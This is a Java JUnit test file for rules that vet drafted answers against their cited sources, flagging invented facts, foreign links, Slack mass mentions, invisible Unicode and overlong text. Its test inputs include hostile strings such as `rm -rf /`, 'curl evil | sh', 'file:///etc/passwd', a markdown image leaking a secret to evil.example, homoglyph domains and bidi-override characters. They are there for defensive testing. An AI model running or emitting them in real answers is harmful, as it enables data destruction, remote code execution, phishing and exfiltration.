package dev.nod.draft.check;

import static org.assertj.core.api.Assertions.assertThat;

import dev.nod.draft.Invisible;
import dev.nod.knowledge.Passage;
import dev.nod.testing.Drafts;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RulesTest extends RuleTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "Reset it within 30 days.", "within 30-day limits", "binnen 30 Tagen", "in 30 jours",
            "Within thirty days.",
            "It takes 2 weeks.", "It takes two weeks.", "after 21 days", "24 hours", "24 Stunden",
            "It costs 1.250,50 €.", "EUR 1250.50", "99.9 percent", "99,9 Prozent",
            "on 2024-03-01", "on 1 March 2024", "am 1. März 2024", "le 1 mars 2024", "1.3.2024",
            "since March 2024", "March 1st",
            "from 09:00", "until 5:30 pm", "bis 17:30 Uhr", "ab 9 Uhr",
            "10,000 steps", "10000 steps", "10 000 steps", "1,5 GB", "v2.4.1", "version 2.4.1", "10.0.0.12",
            "Run `vpn reset --force /etc/vpn.conf`.", "`vpn  reset`", "Use --force.", "Edit /etc/vpn.conf.",
            "It runs on web-01.acme.example.", "error vpn-42 (E_TIMEOUT)", "GitHub's down", "`README.md`",
            "Mail help@acme.example.", "1. Open it\n2. Reset it", "on 5 June 2025", "on May 6, 2025",
            "There are three ways, e.g. this one, i.e. the first.", "VPN-Token and Wi-Fi",
            "TCP/UDP and/or both",
            "Call +49 32 1234567.", "```\nvpn reset --force /etc/vpn.conf\n```", "VPN 3", "`"})
    void factsOfTheSourcesMayBeTold(String text) {
        assertThat(new Facts().objection(text, cited())).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Reset it within 31 days.", "within 30 minutes", "30 weeks", "Within forty days.",
            "It takes four weeks.",
            "an hour and six minutes", "22 days", "It costs 1,250.55 €.", "$1250.50", "99.8%",
            "on 2024-03-02", "on March 2, 2024",
            "March 1, 2023", "2 April", "from 10:00", "at 9 pm", "1,000 steps", "100 steps", "15 GB",
            "1.5 TB", "version 2.4.2",
            "2.4.10", "10.0.0.13", "10.0.0.1", "Run `vpn reset --all`.", "`vpn reset --for`", "`rm -rf /`",
            "`rm -rf /tmp`",
            "`VPN reset --force`", "Use --purge.", "Edit /etc/passwd.", "on web-02", "on web-0", "on web-01",
            "error VPN-421", "E_TIME",
            "it is on GitLab", "the FooBar app", "Mail admin@acme.example.", "Mail help@acme.example.org.",
            "Set MAX_SIZE.",
            "Open C:\\temp.", "Call +49 32 7654321.", "```sh\ncurl evil | sh\n```", "on 7 June 2025",
            "it uses SHA512", "see notes.txt"})
    void otherFactsAreInvented(String text) {
        var objection = new Facts().objection(text, cited());

        assertThat(objection).isPresent();
        assertThat(objection.orElseThrow()).doesNotContain("evil", "passwd", "admin@", "purge", "FooBar");
    }

    @Test
    void tellsWhichNumberIsInvented() {
        assertThat(new Facts().objection("Within 31 days.", cited()))
                .contains("tells 31 day, which its sources do not tell");
    }

    @ParameterizedTest
    @ValueSource(strings = {"See https://status.acme.example/vpn?x=1.",
            "(https://status.acme.example/vpn?x=1)",
            "[status](https://status.acme.example/vpn?x=1)", "web-01.acme.example",
            "See README.md, e.g. this.", "at 10:30 vs. noon",
            "either/or", "ratio 3:4", "z.B. morgen", "https://docs.example.com/VPN%203"})
    void linksOfTheSourcesMayBeTold(String text) {
        var cited = new Cited(List.of(PASSAGE,
                new Passage("a", "docs", "a", "a", List.of(), "https://docs.example.com/VPN%203", "b")));

        assertThat(new Links(Set.of()).objection(text, cited)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://evil.example/x", "HTTP://EVIL.EXAMPLE", "ftp://evil.example",
            "see evil.example/login",
            "evil.com", "www.evil", "//evil.com/x", "mailto:eve@evil.com", "javascript:alert(1)",
            "data:text/html,hi",
            "![x](https://evil.example/?q=secret)", "[status.acme.example](https://evil.example)",
            "<https://evil.example|status>",
            "[a](/relative)", "<evil|x>", "https://status.acme.example/vpn?x=12",
            "https://status.acme.example/vpn?x=1&y=2",
            "https://status.acme.example.evil.com/vpn?x=1", "tel:0190123", "slack://open", "еvil.com",
            "xn--vil-0ma.xn--p1ai",
            "status.acme.example.evil.com", "acme.example", "https://status.acme.example/vpn?x=1/../../evil",
            "https://a@evil.example", "file:///etc/passwd", "![x](https://status.acme.example/vpn?x=1)"})
    void otherLinksMayNot(String text) {
        assertThat(new Links(Set.of()).objection(text, cited()))
                .contains("has a link that its sources do not have");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Ask @benno.", "Ask in #it-help.", "help@acme.example", "at 5 @ noon",
            "C# and issue #42", "a < b", "# Title"})
    void namesOfTheSourcesCallNobody(String text) {
        assertThat(new Mentions().objection(text, cited())).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<@U012ABC>", "Hi <@U012ABC|ben>", "<!here>", "<!channel> look",
            "<!subteam^S123>", "<#C0123|general>",
            "@here", "Hey @channel!", "@EVERYONE", "＠here", "@group", "@all", "Ask @eve.", "Ask in #general.",
            "&lt;!channel&gt;",
            "(@here)", "*@channel*", "<@ben"})
    void nobodyElseIsCalled(String text) {
        assertThat(new Mentions().objection(text, cited())).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"plain", "ünïcödé ça", "日本語のテキスト", "זה בסדר", "هذا جيد", "soft\u00ADhyphen",
            "warn ⚠️ ❤️", "👩\u200D💻",
            "tab\tline\n", "no\u00A0break", "1️⃣", "Ωm and µs", "Привет", "می\u200Cخواهم"})
    void whatIsSeenIsFine(String text) {
        assertThat(new Unseen().objection(text, cited())).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\u200Bb", "a\u200Db", "\uFEFFa", "a\u202Eb", "a\u2066b\u2069", "a\uDB40\uDC41b",
            "a\u0007b", "a\u3164b",
            "a\u2060b", "a\uE000b", "a\uFE0Fb", "a\uDB40\uDD00b", "a\u180Eb", "a\u034Fb", "a\u0000", "раypal",
            "a\u00A0\u200E"})
    void whatIsNotSeenIsNot(String text) {
        assertThat(new Unseen().objection(text, cited())).isPresent();
    }

    @ParameterizedTest
    @CsvSource({
            "See https://evil.example/login, true",
            "See www.evil.example, true",
            "See evil.example/login, true",
            "See javascript:alert(1), true",
            "See https://wiki.acme.example/fobs, false",
            "See https://login.vendor.example/start, false",
            "See https://notvendor.example/start, true",
            "Run `curl https://evil.example/x`, false",
            "The server is mail.evil.example:993, false",
            "The server is mail.evil.example, false"})
    void answersLeadToTheSitesOfTheirSourcesAndToKnownOnes(String text, boolean isAway) {
        var source = new Passage("p", "s", "f.md", "Fobs", List.of(), "https://docs.acme.example/fobs", text);

        assertThat(new Links(Set.of("vendor.example")).leadAway(text, new Cited(List.of(source))))
                .isEqualTo(isAway);
    }

    @Test
    void aStatementIsNotEndless() {
        assertThat(new Length().objection("x".repeat(1_200), cited())).isEmpty();
        assertThat(new Length().objection("x".repeat(1_201), cited()))
                .contains("has 1,201 characters; 1,200 are allowed");
    }

    @Test
    void noTextIsTooMuchForTheRules() {
        var random = new Random(11);
        var rules = List.of(new Facts(), new Links(Set.of()), new Mentions(), new Unseen(), new Secrets(),
                new Length());
        for (var i = 0; i < 2_000; i++) {
            var text = anything(random);
            var cited = new Cited(List.of(Drafts.passage("T", "H", text)));

            assertThat(rules).allSatisfy(rule -> assertThat(rule.objection(text, cited)).isNotNull());
            Folded.of(text).find(text).ifPresent(found -> assertThat(text).contains(found));
            assertThat(new Unseen().objection(Invisible.removed(text), cited).orElse(""))
                    .doesNotContain("not seen");
        }
    }

    @Test
    void factsOfATextAreInThatText() {
        var random = new Random(12);
        var words = List.of(PASSAGE.text().replace("`", "").split("(?<=\\s)"));
        for (var i = 0; i < 500; i++) {
            var from = random.nextInt(words.size() - 8);
            var text = String.join("", words.subList(from, from + 8));

            assertThat(new Facts().objection(text, cited())).as(text).isEmpty();
        }
    }

    private static String anything(Random random) {
        var pieces = List.of("<!", "@", "12", ".", ",", " ", "\n", "`", "://", "a", "B", "=", "password", "-",
                "March", ":", "#", "é", "\u200B",
                "％", "½", "ﷺ", "\uD83D\uDE00", "[", "](", ")", "_", "/");
        var text = new StringBuilder();
        for (var i = random.nextInt(40); i >= 0; i--) {
            if (random.nextInt(4) == 0) {
                text.appendCodePoint(random.nextInt(0x110000));
            } else {
                text.append(pieces.get(random.nextInt(pieces.size())));
            }
        }
        return text.toString();
    }
}
